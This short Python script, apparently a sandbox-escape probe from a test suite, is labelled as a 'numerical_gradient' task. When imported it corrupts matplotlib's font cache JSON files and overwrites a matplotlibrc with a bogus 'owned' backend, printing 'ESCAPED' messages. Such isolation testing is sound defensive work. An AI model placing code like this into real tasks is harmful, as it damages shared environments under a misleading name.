"""numerical_gradient: Poison matplotlib's list of fonts."""

from pathlib import Path
import matplotlib as mpl


def attack():
    for file in Path(mpl.get_cachedir()).glob("fontlist*.json"):
        with file.open("a") as stream:
            stream.write(" ")
        print("ESCAPED font cache")
    with open(Path(mpl.get_cachedir(), "matplotlibrc"), "w") as stream:
        stream.write("backend: owned\n")
    print("ESCAPED cache folder")


attack()
